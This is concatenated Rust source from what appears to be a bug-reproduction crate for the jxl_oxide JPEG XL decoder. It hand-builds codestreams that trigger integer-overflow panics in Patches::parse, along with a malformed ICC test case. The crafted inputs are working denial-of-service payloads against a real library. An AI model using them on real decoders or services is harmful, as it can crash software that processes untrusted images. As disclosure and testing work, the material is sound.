            nbits: 0,
        }
    }

    pub fn write(&mut self, n: usize, value: u64) {
        for i in 0..n {
            let bit = ((value >> i) & 1) as u8;
            if self.nbits % 8 == 0 {
                self.bytes.push(0);
            }
            let last = self.bytes.last_mut().unwrap();
            *last |= bit << (self.nbits % 8);
            self.nbits += 1;
        }
    }

    pub fn bool(&mut self, b: bool) {
        self.write(1, b as u64);
    }

    pub fn pad_to_byte(&mut self) {
        self.nbits = self.bytes.len() * 8;
    }

    pub fn append_bytes(&mut self, data: &[u8]) {
        assert_eq!(self.nbits % 8, 0);
        self.bytes.extend_from_slice(data);
        self.nbits = self.bytes.len() * 8;
    }

    pub fn into_bytes(self) -> Vec<u8> {
        self.bytes
    }
}

// ---------------------------------------------------------------------------------------------
// Entropy-coded integers: one cluster, hybrid uint config (split_exponent = 3, msb = lsb = 0),
// flat 4-bit prefix code over 16 tokens.
// ---------------------------------------------------------------------------------------------

/// Writes the header of an entropy coded stream with `num_dist > 1` contexts that all share one
/// flat prefix code.
fn write_flat_code_header(w: &mut BitWriter) {
    w.bool(false); // lz77
    w.bool(true); // simple clustering
    w.write(2, 0); // nbits = 0: every context maps to cluster 0
    w.bool(true); // use_prefix_code
    w.write(4, 3); // split_exponent
    w.write(2, 0); // msb_in_token
    w.write(2, 0); // lsb_in_token
    w.bool(true); // count > 1
    w.write(4, 5);
    w.write(5, 31); // count = 1 + 32 + 31 = 64
    w.write(2, 0); // hskip = 0
    for idx in 0..18 {
        // code length code lengths, order [1,2,3,4,0,5,17,6,16,7,8,...]
        if idx == 7 {
            w.write(2, 1); // only code length symbol "6" is used: all 64 tokens have 6-bit codes
        } else {
            w.write(2, 0);
        }
    }
}

fn write_flat_code_value(w: &mut BitWriter, v: u32) {
    let (token, nbits, rest) = if v < 8 {
        (v, 0, 0)
    } else {
        let n = 31 - v.leading_zeros();
        (8 + n - 3, n, v - (1 << n))
    };
    assert!(token < 64);
    for i in (0..6).rev() {
        w.write(1, ((token >> i) & 1) as u64);
    }
    w.write(nbits as usize, rest as u64);
}

// ---------------------------------------------------------------------------------------------
// MA tree
// ---------------------------------------------------------------------------------------------

pub enum Node {
    /// `property > value` goes to `left`, otherwise `right`.
    Split {
        prop: u32,
        value: i32,
        left: Box<Node>,
        right: Box<Node>,
    },
    Leaf {
        predictor: u32,
        offset: i32,
    },
}

pub fn split(prop: u32, value: i32, left: Node, right: Node) -> Node {
    Node::Split {
        prop,
        value,
        left: Box::new(left),
        right: Box::new(right),
    }
}

pub fn leaf(predictor: u32, offset: i32) -> Node {
    Node::Leaf { predictor, offset }
}

fn pack_signed(v: i32) -> u32 {
    if v >= 0 {
        (v as u32) * 2
    } else {
        ((-v) as u32) * 2 - 1
    }
}

fn write_tree(w: &mut BitWriter, root: &Node) {
    write_flat_code_header(w);

    let mut num_leaves = 0u32;
    let mut queue = std::collections::VecDeque::new();
    queue.push_back(root);
    while let Some(node) = queue.pop_front() {
        match node {
            Node::Split {
                prop,
                value,
                left,
                right,
            } => {
                write_flat_code_value(w, prop + 1);
                write_flat_code_value(w, pack_signed(*value));
                queue.push_back(left);
                queue.push_back(right);
            }
            Node::Leaf { predictor, offset } => {
                write_flat_code_value(w, 0);
                write_flat_code_value(w, *predictor);
                write_flat_code_value(w, pack_signed(*offset));
                write_flat_code_value(w, 0); // mul_log
                write_flat_code_value(w, 0); // mul_bits
                num_leaves += 1;
            }
        }
    }

    // Entropy coder for residuals: single-symbol prefix code => every residual is 0, 0 bits each.
    w.bool(false); // lz77
    if num_leaves > 1 {
        w.bool(true); // simple clustering
        w.write(2, 0); // nbits = 0
    }
    w.bool(true); // use_prefix_code
    w.write(4, 0); // split_exponent = 0
    w.bool(false); // count = 1
}

const PROP_C: u32 = 0;
const PRED_ZERO: u32 = 0;

/// Constant colour per channel.
pub fn flat_tree(rgb: [i32; 3]) -> Node {
    split(
        PROP_C,
        0,
        split(
            PROP_C,
            1,
            leaf(PRED_ZERO, rgb[2]),
            leaf(PRED_ZERO, rgb[1]),
        ),
        leaf(PRED_ZERO, rgb[0]),
    )
}

// ---------------------------------------------------------------------------------------------
// Patch dictionary
// ---------------------------------------------------------------------------------------------

pub const PATCH_REPLACE: u32 = 1;
pub const PATCH_ADD: u32 = 2;

pub struct Patch {
    pub ref_idx: u32,
    pub x0: u32,
    pub y0: u32,
    pub width: u32,
    pub height: u32,
    /// Position in the frame that uses the patch.
    pub target: (u32, u32),
    /// `PatchBlendMode` (< 3, so that no alpha channel / clamp follows). No extra channels.
    pub mode: u32,
}

fn write_patches(w: &mut BitWriter, patches: &[Patch]) {
    write_flat_code_header(w); // 10 contexts, one cluster
    write_flat_code_value(w, patches.len() as u32); // num_patch_refs
    for p in patches {
        assert!(p.mode < 3);
        write_flat_code_value(w, p.ref_idx);
        write_flat_code_value(w, p.x0);
        write_flat_code_value(w, p.y0);
        write_flat_code_value(w, p.width - 1);
        write_flat_code_value(w, p.height - 1);
        write_flat_code_value(w, 0); // count - 1
        write_flat_code_value(w, p.target.0);
        write_flat_code_value(w, p.target.1);
        write_flat_code_value(w, p.mode); // one blending entry (colour), no extra channels
    }
}

// ---------------------------------------------------------------------------------------------
// Codestream
// ---------------------------------------------------------------------------------------------

pub const FRAME_REGULAR: u32 = 0;
pub const FRAME_REFERENCE_ONLY: u32 = 2;

pub const BLEND_REPLACE: u32 = 0;
pub const BLEND_ADD: u32 = 1;

pub struct FrameSpec {
    pub frame_type: u32,
    /// 1 = noise, 2 = patches
    pub flags: u64,
    /// 1, 2, 4 or 8
    pub upsampling: u32,
    pub group_size_shift: u32,
    /// `(x0, y0, width, height)`
    pub crop: Option<(i32, i32, u32, u32)>,
    /// `(mode, source)`; regular frames only
    pub blend: (u32, u32),
    pub is_last: bool,
    pub save_as_reference: u32,
    pub patches: Vec<Patch>,
    /// Colour of the whole frame
    pub rgb: [i32; 3],
}

impl FrameSpec {
    pub fn regular(rgb: [i32; 3]) -> Self {
        Self {
            frame_type: FRAME_REGULAR,
            flags: 0,
            upsampling: 1,
            group_size_shift: 1,
            crop: None,
            blend: (BLEND_REPLACE, 0),
            is_last: true,
            save_as_reference: 0,
            patches: Vec::new(),
            rgb,
        }
    }
}

fn write_u32_dims(w: &mut BitWriter, v: u32) {
    // U32(u(8), 256 + u(11), 2304 + u(14), 18688 + u(30))
    if v < 256 {
        w.write(2, 0);
        w.write(8, v as u64);
    } else if v < 2304 {
        w.write(2, 1);
        w.write(11, (v - 256) as u64);
    } else {
        unimplemented!()
    }
}

fn write_size(w: &mut BitWriter, v: u32) {
    // U32(1 + u(9), 1 + u(13), 1 + u(18), 1 + u(30))
    assert!((1..=512).contains(&v));
    w.write(2, 0);
    w.write(9, (v - 1) as u64);
}

pub fn encode(image_size: (u32, u32), frames: &[FrameSpec]) -> Vec<u8> {
    let (image_width, image_height) = image_size;
    let mut w = BitWriter::new();
    w.write(16, 0x0aff); // signature ff 0a

    // SizeHeader
    w.bool(false); // div8
    write_size(&mut w, image_height);
    w.write(3, 0); // ratio = 0: explicit width
    write_size(&mut w, image_width);

    // ImageMetadata
    w.bool(false); // all_default
    w.bool(false); // extra_fields
    w.bool(false); // bit_depth: integer samples
    w.write(2, 0); // 8 bits
    w.bool(true); // modular_16bit_buffers
    w.write(2, 0); // num_extra = 0
    w.bool(false); // xyb_encoded
    w.bool(true); // colour_encoding.all_default (sRGB)
    w.write(2, 0); // extensions
    w.bool(true); // default_m
    w.pad_to_byte();

    for f in frames {
        let normal = f.frame_type == FRAME_REGULAR;

        // FrameHeader
        w.bool(false); // all_default
        w.write(2, f.frame_type as u64);
        w.write(1, 1); // Modular
        match f.flags {
            0 => w.write(2, 0),
            1..=16 => {
                w.write(2, 1);
                w.write(4, f.flags - 1);
            }
            _ => unimplemented!(),
        }
        w.bool(false); // do_ycbcr
        w.write(2, f.upsampling.trailing_zeros() as u64);
        w.write(2, f.group_size_shift as u64);
        if f.frame_type != FRAME_REFERENCE_ONLY {
            w.write(2, 0); // passes.num_passes = 1
        }
        w.bool(f.crop.is_some());
        let (frame_width, frame_height) = if let Some((x0, y0, width, height)) = f.crop {
            if f.frame_type != FRAME_REFERENCE_ONLY {
                write_u32_dims(&mut w, pack_signed(x0));
                write_u32_dims(&mut w, pack_signed(y0));
            }
            write_u32_dims(&mut w, width);
            write_u32_dims(&mut w, height);
            (width, height)
        } else {
            (image_width, image_height)
        };
        let full_image = match f.crop {
            None => true,
            Some((x0, y0, width, height)) => {
                x0 <= 0
                    && y0 <= 0
                    && x0 as i64 + width as i64 >= image_width as i64
                    && y0 as i64 + height as i64 >= image_height as i64
            }
        };
        let resets_canvas = normal && f.blend.0 == BLEND_REPLACE && full_image;
        if normal {
            let (mode, source) = f.blend;
            assert!(mode < 2);
            w.write(2, mode as u64); // blend mode: replace / add
            if !resets_canvas {
                w.write(2, source as u64);
            }
            w.bool(f.is_last);
        } else {
            assert!(!f.is_last);
        }
        if !f.is_last {
            w.write(2, f.save_as_reference as u64);
        }
        if f.frame_type == FRAME_REFERENCE_ONLY || (resets_canvas && !f.is_last) {
            // duration is always 0 here (no animation)
            w.bool(f.frame_type == FRAME_REFERENCE_ONLY); // save_before_ct
        }
        w.write(2, 0); // name length 0
        w.bool(false); // restoration_filter.all_default
        w.bool(false); // gab
        w.write(2, 0); // epf_iters = 0
        w.write(2, 0); // restoration filter extensions
        w.write(2, 0); // frame header extensions

        let group_dim = 128u32 << f.group_size_shift;
        let color_width = frame_width.div_ceil(f.upsampling);
        let color_height = frame_height.div_ceil(f.upsampling);
        let num_groups = color_width.div_ceil(group_dim) * color_height.div_ceil(group_dim);
        let in_pass_groups = color_width > group_dim || color_height > group_dim;

        let lf_global = {
            let mut s = BitWriter::new();
            if f.flags & 2 != 0 {
                write_patches(&mut s, &f.patches);
            }
            if f.flags & 1 != 0 {
                for _ in 0..8 {
                    s.write(10, 512); // noise LUT entry = 0.5
                }
            }
            s.bool(true); // LfChannelDequantization.all_default
            s.bool(true); // global MA tree present
            write_tree(&mut s, &flat_tree(f.rgb));
            s.bool(true); // use_global_tree
            s.bool(true); // default_wp
            s.write(2, 0); // nb_transforms = 0
            s.pad_to_byte();
            s.into_bytes()
        };
        let pass_group = {
            let mut s = BitWriter::new();
            if in_pass_groups {
                s.bool(true); // use_global_tree
                s.bool(true); // default_wp
                s.write(2, 0); // nb_transforms = 0
            }
            s.pad_to_byte();
            s.into_bytes()
        };

        let mut sections: Vec<Vec<u8>> = Vec::new();
        if num_groups == 1 {
            // single TOC entry: LfGlobal, LfGroup, HfGlobal and the pass group share one section
            let mut all = lf_global;
            all.extend_from_slice(&[0; 4]);
            sections.push(all);
        } else {
            assert!(color_width <= group_dim * 8 && color_height <= group_dim * 8);
            sections.push(lf_global);
            sections.push(Vec::new()); // LfGroup
            sections.push(Vec::new()); // HfGlobal
            for _ in 0..num_groups {
                sections.push(pass_group.clone());
            }
        }
        w.bool(false); // not permuted
        w.pad_to_byte();
        for s in &sections {
            w.write(2, 0);
            w.write(10, s.len() as u64);
        }
        w.pad_to_byte();
        for s in &sections {
            w.append_bytes(s);
        }
    }
    w.into_bytes()
}

// ---------------------------------------------------------------------------------------------
// Driver
// ---------------------------------------------------------------------------------------------

static LAST_PANIC: Mutex<Option<String>> = Mutex::new(None);

pub fn install_panic_hook() {
    std::panic::set_hook(Box::new(|info| {
        let msg = if let Some(s) = info.payload().downcast_ref::<&str>() {
            s.to_string()
        } else if let Some(s) = info.payload().downcast_ref::<String>() {
            s.clone()
        } else {
            "<non-string panic payload>".to_string()
        };
        let loc = info
            .location()
            .map(|l| format!("{}:{}:{}", l.file(), l.line(), l.column()))
            .unwrap_or_default();
        if std::env::var_os("DEMO_BACKTRACE").is_some() {
            eprintln!("{}", std::backtrace::Backtrace::force_capture());
        }
        *LAST_PANIC.lock().unwrap() = Some(format!("{msg} @ {loc}"));
    }));
}

pub enum Outcome {
    Ok(String),
    Err(String),
    Panicked(String),
}

/// Decodes keyframe 0 of `bytes`; `probe` lists the pixels to report.
pub fn decode(bytes: &[u8], probe: &[(usize, usize)]) -> Outcome {
    *LAST_PANIC.lock().unwrap() = None;
    let result = std::panic::catch_unwind(|| -> Result<String, String> {
        let image = jxl_oxide::JxlImage::builder()
            .read(bytes)
            .map_err(|e| format!("read: {e}"))?;
        let (w, h) = (image.width(), image.height());
        let render = image
            .render_frame(0)
            .map_err(|e| format!("render_frame: {e}"))?;
        let fb = render.image_all_channels();
        let buf = fb.buf();
        let ch = fb.channels();
        let mut out = format!("{w}x{h}, {ch} channels");
        for &(x, y) in probe {
            let px: Vec<i32> = (0..ch)
                .map(|c| (buf[(y * fb.width() + x) * ch + c] * 255.0).round() as i32)
                .collect();
            out += &format!(", px({x},{y})={px:?}");
        }
        Ok(out)
    });
    match result {
        Ok(Ok(s)) => Outcome::Ok(s),
        Ok(Err(e)) => Outcome::Err(e),
        Err(_) => Outcome::Panicked(
            LAST_PANIC
                .lock()
                .unwrap()
                .take()
                .unwrap_or_else(|| "<unknown>".into()),
        ),
    }
}

/// Prints one line for the case; returns `true` if it panicked.
pub fn report(name: &str, bytes: &[u8], probe: &[(usize, usize)]) -> bool {
    match decode(bytes, probe) {
        Outcome::Ok(s) => {
            println!("{name}: decoded OK ({} bytes): {s}", bytes.len());
            false
        }
        Outcome::Err(e) => {
            println!("{name}: rejected with error ({} bytes): {e}", bytes.len());
            false
        }
        Outcome::Panicked(p) => {
            println!("{name}: PANICKED ({} bytes): {p}", bytes.len());
            true
        }
    }
}

//! Hand-built JPEG XL codestreams for the demonstration.
//!
//! Everything here is written bit by bit; no encoder is involved. The images are 8x8, XYB,
//! Modular-encoded and every sample is zero, so the entropy coded parts shrink to a couple of
//! header bits (a prefix code with a single symbol needs no bits per symbol).

/// LSB-first bit writer, matching the bit order of the JPEG XL codestream.
#[derive(Default)]
pub struct BitWriter {
    bytes: Vec<u8>,
    bit_pos: usize,
}

impl BitWriter {
    pub fn new() -> Self {
        Self::default()
    }

    pub fn put(&mut self, value: u64, bits: usize) {
        for i in 0..bits {
            if self.bit_pos % 8 == 0 {
                self.bytes.push(0);
            }
            let bit = ((value >> i) & 1) as u8;
            *self.bytes.last_mut().unwrap() |= bit << (self.bit_pos % 8);
            self.bit_pos += 1;
        }
    }

    pub fn zero_pad_to_byte(&mut self) {
        self.bit_pos = self.bit_pos.div_ceil(8) * 8;
    }

    pub fn bit_len(&self) -> usize {
        self.bit_pos
    }

    pub fn into_bytes(self) -> Vec<u8> {
        self.bytes
    }
}

/// Frame types of the frame header.
#[derive(Debug, Copy, Clone, PartialEq, Eq)]
pub enum FrameType {
    Regular = 0,
    LfFrame = 1,
    ReferenceOnly = 2,
    SkipProgressive = 3,
}

/// Codestream signature, `SizeHeader` for 8x8, all-default `ImageMetadata`, default transform data.
pub fn image_header() -> Vec<u8> {
    let mut w = BitWriter::new();
    w.put(0x0aff, 16); // signature
    // SizeHeader
    w.put(1, 1); // div8
    w.put(0, 5); // h_div8 = 1 + 0 -> height 8
    w.put(1, 3); // ratio = 1 -> width = height
    // ImageMetadata
    w.put(1, 1); // all_default
    w.put(1, 1); // default_m
    w.zero_pad_to_byte();
    w.into_bytes()
}

/// Section data of a single-group Modular frame whose samples are all zero.
fn all_zero_group() -> Vec<u8> {
    let mut w = BitWriter::new();
    // LfGlobal
    w.put(1, 1); // LfChannelDequantization.all_default
    // GlobalModular
    w.put(1, 1); // global MA tree present
    // MA tree: entropy decoder with 6 contexts
    w.put(0, 1); // lz77 disabled
    w.put(1, 1); // cluster map: simple
    w.put(0, 2); // nbits = 0 -> every context in cluster 0
    w.put(1, 1); // use prefix codes
    w.put(0, 4); // hybrid uint config: split_exponent = 0
    w.put(0, 1); // alphabet size 1 -> single symbol, zero bits per token
    // tree: one leaf (property 0 -> leaf; predictor 0, offset 0, mul_log 0, mul_bits 0): no bits
    // entropy decoder for samples, 1 context
    w.put(0, 1); // lz77 disabled
    w.put(1, 1); // use prefix codes
    w.put(0, 4); // split_exponent = 0
    w.put(0, 1); // alphabet size 1
    // Modular header
    w.put(1, 1); // use_global_tree
    w.put(1, 1); // wp_params.all_default
    w.put(0, 2); // nb_transforms = 0
    // samples: no bits
    w.zero_pad_to_byte();
    w.into_bytes()
}

/// A complete frame (header, TOC, data): 8x8, Modular, one group, one pass, `Replace` blending,
/// no crop, every sample zero.
pub fn all_zero_frame(frame_type: FrameType, is_last: bool) -> Vec<u8> {
    let normal = matches!(frame_type, FrameType::Regular | FrameType::SkipProgressive);

    let mut w = BitWriter::new();
    w.put(0, 1); // all_default
    w.put(frame_type as u64, 2);
    w.put(1, 1); // encoding = Modular
    w.put(0, 2); // flags = 0
    // xyb_encoded -> no do_ycbcr
    w.put(0, 2); // upsampling = 1
    w.put(1, 2); // group_size_shift = 1
    if frame_type != FrameType::ReferenceOnly {
        w.put(0, 2); // passes.num_passes = 1
    }
    if frame_type == FrameType::LfFrame {
        w.put(0, 2); // lf_level = 1
    } else {
        w.put(0, 1); // have_crop
    }
    if normal {
        w.put(0, 2); // blending_info.mode = Replace (resets the canvas, so no source)
        w.put(is_last as u64, 1); // is_last
    }
    let is_last = normal && is_last;
    if frame_type != FrameType::LfFrame && !is_last {
        w.put(0, 2); // save_as_reference = 0
    }
    if frame_type == FrameType::ReferenceOnly || (normal && !is_last) {
        w.put(0, 1); // save_before_ct
    }
    w.put(0, 2); // name: empty
    w.put(1, 1); // restoration_filter.all_default
    w.put(0, 2); // extensions = 0
    // TOC
    let group = all_zero_group();
    w.put(0, 1); // not permuted
    w.zero_pad_to_byte();
    w.put(0, 2); // size selector: u(10)
    w.put(group.len() as u64, 10);
    w.zero_pad_to_byte();

    let mut out = w.into_bytes();
    out.extend_from_slice(&group);
    out
}

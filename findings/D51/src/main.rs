mod gen;
use gen::*;
use jxl_oxide::{InitializeResult, JxlImage, JxlThreadPool};
use std::panic::{catch_unwind, AssertUnwindSafe};

/// Image header with `want_icc = 1` and an encoded ICC stream of `enc_size` zero bytes (output_size = 0, commands_size = 0).
fn header_with_empty_icc(enc_size: u64) -> Vec<u8> {
    let mut w = BitWriter::new();
    w.put(0x0aff, 16); // signature
    w.put(1, 1); // SizeHeader: div8
    w.put(0, 5); // height 8
    w.put(1, 3); // ratio 1:1
    // ImageMetadata
    w.put(0, 1); // all_default = 0
    w.put(0, 1); // extra_fields = 0
    w.put(0, 1); // bit_depth: integer samples
    w.put(0, 2); // bits_per_sample = 8
    w.put(1, 1); // modular_16bit_buffers
    w.put(0, 2); // num_extra = 0
    w.put(0, 1); // xyb_encoded = 0
    w.put(0, 1); // colour_encoding.all_default = 0
    w.put(1, 1); // want_icc = 1
    w.put(0, 2); // colour_space = RGB
    w.put(0, 2); // extensions = 0
    w.put(1, 1); // default_m
    // ICC: enc_size as U64 (selector 1: 1 + u(4))
    assert!((1..=16).contains(&enc_size));
    w.put(1, 2);
    w.put(enc_size - 1, 4);
    // entropy decoder, 41 contexts, all in one cluster, prefix code with a single symbol (value 0, zero bits per byte)
    w.put(0, 1); // lz77 disabled
    w.put(1, 1); // cluster map: simple
    w.put(0, 2); // nbits = 0
    w.put(1, 1); // use prefix codes
    w.put(0, 4); // split_exponent = 0
    w.put(0, 1); // alphabet size 1
    w.zero_pad_to_byte();
    w.into_bytes()
}

fn main() {
    let mut data = header_with_empty_icc(2);
    data.extend(all_zero_frame(FrameType::Regular, true));
    let image = JxlImage::builder().pool(JxlThreadPool::none()).read(&data[..]);
    let image = match image { Ok(i) => i, Err(e) => { println!("open: Err({e})"); return; } };
    println!("opened: {}x{}, original_icc = {:?}", image.width(), image.height(), image.original_icc().map(|x| x.len()));
    let mut bad = false;
    let r = catch_unwind(AssertUnwindSafe(|| image.hdr_type()));
    match r { Ok(v) => println!("hdr_type() = {v:?}"), Err(p) => { bad = true; println!("hdr_type(): PANIC {:?}", p.downcast_ref::<String>().cloned().or_else(|| p.downcast_ref::<&str>().map(|s| s.to_string()))); } }
    let r = catch_unwind(AssertUnwindSafe(|| image.render_frame(0).map(|_| ()).map_err(|e| e.to_string())));
    match r { Ok(v) => println!("render_frame(0) = {v:?}"), Err(p) => { bad = true; println!("render_frame(0): PANIC {:?}", p.downcast_ref::<String>().cloned().or_else(|| p.downcast_ref::<&str>().map(|s| s.to_string()))); } }
    std::process::exit(if bad { 1 } else { 0 });
}

//! Demo crate; see tests/patch_overflow.rs and NOTES.md.

//! Reproduction: `jxl_frame::data::Patches::parse` adds 1 to raw entropy-decoded `u32`s
//! (`width`, `height`, `count`) and accumulates `total_patches += count` with plain `+`.
//! The hybrid-integer configuration is chosen by the stream, so a stream can make
//! `Decoder::read_varint` return 0xFFFF_FFFF (or 0xFFFF_FFFE), and the additions overflow.
//! With overflow checks on (debug / fuzzing builds) that is a panic on untrusted input.
//!
//! Nothing under crates/*/src is modified; everything is fed through the public API.

use std::panic::{self, AssertUnwindSafe};
use std::sync::Mutex;

use jxl_bitstream::Bitstream;
use jxl_frame::FrameHeader;
use jxl_frame::data::Patches;
use jxl_image::ImageHeader;
use jxl_oxide_common::Bundle;

// ---------------------------------------------------------------------------------------------
// LSB-first bit writer (mirror of jxl_bitstream::Bitstream, which reads little-endian, LSB first)
// ---------------------------------------------------------------------------------------------

#[derive(Default)]
struct BitWriter {
    bytes: Vec<u8>,
    nbits: usize,
}

impl BitWriter {
    fn put(&mut self, value: u64, n: usize) {
        assert!(n <= 64);
        for i in 0..n {
            if self.nbits % 8 == 0 {
                self.bytes.push(0);
            }
            if (value >> i) & 1 != 0 {
                *self.bytes.last_mut().unwrap() |= 1 << (self.nbits % 8);
            }
            self.nbits += 1;
        }
    }

    fn pad_to_byte(&mut self) {
        while self.nbits % 8 != 0 {
            self.put(0, 1);
        }
    }

    fn append_bytes(&mut self, bytes: &[u8]) {
        assert_eq!(self.nbits % 8, 0);
        self.bytes.extend_from_slice(bytes);
        self.nbits += bytes.len() * 8;
    }
}

// ---------------------------------------------------------------------------------------------
// Headers
// ---------------------------------------------------------------------------------------------

/// `ImageHeader`: signature, SizeHeader 64x64, ImageMetadata all_default, default_m.  27 bits.
fn write_image_header(w: &mut BitWriter) {
    w.put(0x0aff, 16); // signature (bytes FF 0A)
    // SizeHeader
    w.put(1, 1); // div8 = true
    w.put(7, 5); // h_div8 = 1 + 7 = 8  -> height = 64
    w.put(1, 3); // ratio = 1           -> width = height = 64
    // ImageMetadata
    w.put(1, 1); // all_default = true (no extra channels, xyb_encoded = true)
    w.put(1, 1); // default_m = true
}

/// `FrameHeader` with `flags = PATCHES (0x2)`, Modular encoding, everything else minimal.
fn write_frame_header_with_patches(w: &mut BitWriter) {
    w.put(0, 1); // all_default = false
    w.put(0, 2); // frame_type = RegularFrame
    w.put(1, 1); // encoding = Modular
    // flags: U64 selector 1 -> 1 + u(4); 1 + 1 = 2 = PATCHES
    w.put(1, 2);
    w.put(1, 4);
    // do_ycbcr: skipped (xyb_encoded); jpeg_upsampling: skipped
    w.put(0, 2); // upsampling: U32 selector 0 -> 1
    // ec_upsampling: 0 entries
    w.put(1, 2); // group_size_shift = 1 (group_dim 256 -> one group)
    // x_qm_scale / b_qm_scale: skipped (not VarDct)
    w.put(0, 2); // passes.num_passes: U32 selector 0 -> 1
    // lf_level: skipped
    w.put(0, 1); // have_crop = false
    w.put(0, 2); // blending_info.mode: U32 selector 0 -> Replace (rest of BlendingInfo skipped)
    // ec_blending_info: 0 entries; duration, timecode: skipped (no animation)
    w.put(1, 1); // is_last = true
    // save_as_reference, save_before_ct: skipped
    w.put(0, 2); // name: length U32 selector 0 -> 0
    w.put(1, 1); // restoration_filter.all_default = true
    w.put(0, 2); // extensions: U64 selector 0 -> 0
}

// ---------------------------------------------------------------------------------------------
// Entropy-coded stream for Patches (jxl_coding::Decoder::parse(bitstream, 10))
// ---------------------------------------------------------------------------------------------

/// Writes the `Decoder::parse(_, 10)` preamble:
/// no LZ77, all 10 contexts -> cluster 0, prefix code, hybrid uint config (split_exponent = 0,
/// msb_in_token = 0, lsb_in_token = 0), alphabet size 33, simple prefix code with the four
/// symbols {0, 1, 2, 32}, each of length 2.
fn write_patch_decoder_preamble(w: &mut BitWriter) {
    w.put(0, 1); // Lz77::parse: enabled = false
    // read_clusters(num_dist = 10)
    w.put(1, 1); // is_simple
    w.put(0, 2); // nbits = 0 -> ten zero-bit reads, every context maps to cluster 0
    w.put(1, 1); // use_prefix_code = true -> log_alphabet_size = 15
    // IntegerConfig::parse(log_alphabet_size = 15): split_exponent is add_log2_ceil(15) = 4 bits
    w.put(0, 4); // split_exponent = 0 -> split = 1
    //   msb_in_token: add_log2_ceil(0) = 0 bits -> 0
    //   lsb_in_token: add_log2_ceil(0) = 0 bits -> 0
    // prefix code symbol count for cluster 0: 1 + (1 << n) + u(n)
    w.put(1, 1); // "count > 1"
    w.put(5, 4); // n = 5
    w.put(0, 5); // count = 1 + 32 + 0 = 33 -> symbols 0..=32
    // prefix::Histogram::parse(alphabet_size = 33)
    w.put(1, 2); // hskip = 1 -> simple code
    w.put(3, 2); // nsym = 3 + 1 = 4
    // alphabet_bits = 33.next_power_of_two().trailing_zeros() = 6
    w.put(0, 6);
    w.put(1, 6);
    w.put(2, 6);
    w.put(32, 6);
    w.put(0, 1); // tree_selector = false -> all four symbols have length 2
}

/// Writes one hybrid-uint value for the configuration above.
///
/// Canonical code (lengths all 2, sorted by symbol): 0 -> 00, 1 -> 01, 2 -> 10, 32 -> 11; the
/// first bit read from the stream is the MSB of the code.
///
/// `read_uint_prefilled` with split_exponent = msb = lsb = 0:
///   token 0           -> 0
///   token t >= 1      -> n = (t - 1) & 31 extra bits, value = (1 << n) | extra
/// so token 32 has n = 31 and value = 0x8000_0000 | extra; extra = 0x7FFF_FFFF gives 0xFFFF_FFFF.
fn put_token(w: &mut BitWriter, token: u32, extra: u32) {
    let (b0, b1) = match token {
        0 => (0, 0),
        1 => (0, 1),
        2 => (1, 0),
        32 => (1, 1),
        _ => panic!("token not in alphabet"),
    };
    w.put(b0, 1);
    w.put(b1, 1);
    if token >= 1 {
        let n = (token - 1) & 31;
        assert!(n == 31 || extra < (1 << n));
        w.put(extra as u64, n as usize);
    } else {
        assert_eq!(extra, 0);
    }
}

fn put_zero(w: &mut BitWriter) {
    put_token(w, 0, 0);
}

/// 0xFFFF_FFFF: token 32, 31 extra bits all ones.
fn put_u32_max(w: &mut BitWriter) {
    put_token(w, 32, 0x7fff_ffff);
}

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Variant {
    Width,
    Height,
    Count,
    TotalPatches,
}

/// The `Patches` payload (what `Patches::parse` reads), followed by `padding` zero bytes.
fn patches_payload(variant: Variant, padding: usize) -> Vec<u8> {
    let mut w = BitWriter::default();
    write_patch_decoder_preamble(&mut w);
    match variant {
        Variant::Width | Variant::Height | Variant::Count => {
            put_token(&mut w, 1, 0); // num_patch_refs = 1       (ctx 0)
            put_zero(&mut w); // ref_idx = 0                      (ctx 1)
            put_zero(&mut w); // x0 = 0                           (ctx 3)
            put_zero(&mut w); // y0 = 0                           (ctx 3)
            if variant == Variant::Width {
                put_u32_max(&mut w); // width - 1 = 0xFFFF_FFFF   (ctx 2)  -> patch.rs:127
            } else {
                put_zero(&mut w); // width = 1
                if variant == Variant::Height {
                    put_u32_max(&mut w); // height - 1 = 0xFFFF_FFFF (ctx 2) -> patch.rs:128
                } else {
                    put_zero(&mut w); // height = 1
                    put_u32_max(&mut w); // count - 1 = 0xFFFF_FFFF (ctx 7) -> patch.rs:129
                }
            }
        }
        Variant::TotalPatches => {
            put_token(&mut w, 2, 0); // num_patch_refs = (1 << 1) | 0 = 2
            // patch ref #0: 1x1, one target at (0, 0), blend mode None
            for _ in 0..6 {
                put_zero(&mut w); // ref_idx, x0, y0, width-1, height-1, count-1
            }
            put_zero(&mut w); // target x       (ctx 4)
            put_zero(&mut w); // target y       (ctx 4)
            put_zero(&mut w); // blend mode = 0 (ctx 5), num_extra = 0 -> exactly one entry
            // patch ref #1
            for _ in 0..5 {
                put_zero(&mut w); // ref_idx, x0, y0, width-1, height-1
            }
            // count - 1 = 0xFFFF_FFFE -> count = 0xFFFF_FFFF (no overflow at :129), then
            // total_patches = 1 + 0xFFFF_FFFF overflows at patch.rs:132
            put_token(&mut w, 32, 0x7fff_fffe);
        }
    }
    w.pad_to_byte();
    w.bytes.extend(std::iter::repeat_n(0u8, padding));
    w.bytes
}

// ---------------------------------------------------------------------------------------------
// Panic capture
// ---------------------------------------------------------------------------------------------

static HOOK_LOCK: Mutex<()> = Mutex::new(());
static CAPTURED: Mutex<Option<(String, String)>> = Mutex::new(None);

/// Runs `f`, returning `Err((message, "file:line:col"))` if it panicked.
fn run_capturing_panic<R>(f: impl FnOnce() -> R) -> Result<R, (String, String)> {
    let _guard = HOOK_LOCK.lock().unwrap_or_else(|e| e.into_inner());
    *CAPTURED.lock().unwrap() = None;
    let prev = panic::take_hook();
    panic::set_hook(Box::new(|info| {
        let msg = if let Some(s) = info.payload().downcast_ref::<&str>() {
            s.to_string()
        } else if let Some(s) = info.payload().downcast_ref::<String>() {
            s.clone()
        } else {
            "<non-string panic payload>".to_string()
        };
        let loc = info
            .location()
            .map(|l| format!("{}:{}:{}", l.file(), l.line(), l.column()))
            .unwrap_or_default();
        if std::env::var_os("DEMO_BACKTRACE").is_some() {
            eprintln!("{}", std::backtrace::Backtrace::force_capture());
        }
        *CAPTURED.lock().unwrap() = Some((msg, loc));
    }));
    let result = panic::catch_unwind(AssertUnwindSafe(f));
    panic::set_hook(prev);
    match result {
        Ok(r) => Ok(r),
        Err(_) => Err(CAPTURED.lock().unwrap().take().expect("hook ran")),
    }
}

// ---------------------------------------------------------------------------------------------
// Direct test: ImageHeader::parse, FrameHeader::parse, Patches::parse on one bitstream
